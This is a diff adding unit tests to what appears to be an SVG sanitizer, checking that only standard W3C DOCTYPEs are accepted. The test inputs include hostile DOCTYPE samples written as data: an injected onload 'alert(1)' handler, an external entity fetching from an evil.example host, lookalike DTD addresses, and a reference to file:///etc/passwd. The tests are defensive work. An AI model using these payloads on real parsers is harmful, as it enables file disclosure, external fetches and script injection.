@@ -107,6 +107,8 @@ describe('An SVG is written anew', () => {
     for (const doctype of [
       '<!DOCTYPE svg>',
       '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
+      `<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.0//EN' 'http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/svg10.dtd'>`,
+      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1 Tiny//EN" "https://www.w3.org/Graphics/SVG/1.1/DTD/svg11-tiny.dtd" >',
       '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 20010904//EN"\n "http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/svg10.dtd">',
     ])
       expect(clean(doctype + around(''))).toEqual(clean(around('')));
@@ -196,6 +198,35 @@ describe('An SVG that could do something is refused', () => {
     ['another encoding', '<?xml version="1.0" encoding="iso-2022-jp"?>', /the encoding iso-2022-jp/],
   ])('when it begins with %s', (_, beginning, found) => {
     expect(clean(beginning + around(''))).toMatchObject({ found: expect.stringMatching(found) });
+  });
+
+  const w3c = 'svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"';
+  test.each([
+    ...['svg []', 'svg [ ]', `${w3c} []`, `${w3c} [<!ATTLIST svg onload CDATA "alert(1)">]`],
+    'svg [<!ENTITY % a SYSTEM "https://evil.example/"> %a;]',
+    ...['http://evil.example/svg11.dtd', 'http://www.w3.org.evil.example/svg11.dtd', 'http://a@evil.example/x.dtd'].map(
+      (address) => `svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${address}"`,
+    ),
+    ...['http://www.w3.org/x?svg11.dtd', 'http://www.w3.org@evil.example/svg11.dtd', 'svg11.dtd', ''].map(
+      (address) => `svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${address}"`,
+    ),
+    ...['svg SYSTEM "file:///etc/passwd"', 'svg SYSTEM "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"'],
+    'svg PUBLIC "-//W3C//DTD XHTML 1.1 plus MathML 2.0 plus SVG 1.1//EN" "http://www.w3.org/2002/04/xhtml-math-svg.dtd"',
+    ...['svg:svg', 'SVG', 'html'],
+  ])('when its DOCTYPE is any but that of W3C: %s', (doctype) => {
+    expect(clean(`<!DOCTYPE ${doctype}>${around('')}`)).toMatchObject({
+      found: 'the SVG has a DOCTYPE with definitions of its own, or of another kind of document',
+    });
+  });
+
+  test.each([
+    ['stands twice', `<!DOCTYPE svg><!DOCTYPE svg>${around('')}`],
+    ['stands within', around('<!DOCTYPE svg>')],
+    ['stands behind', `${around('')}<!DOCTYPE svg>`],
+    ['names what only the DTD of another knows', `<!DOCTYPE ${w3c}>${around('<text>&colon;</text>')}`],
+    ['is none', `<!DOCTYPEsvg>${around('')}`],
+  ])('when its DOCTYPE %s', (_, markup) => {
+    expect(clean(markup)).toMatchObject({ severity: 'problem' });
   });
 
   test('with the line, and with what to do', () => {
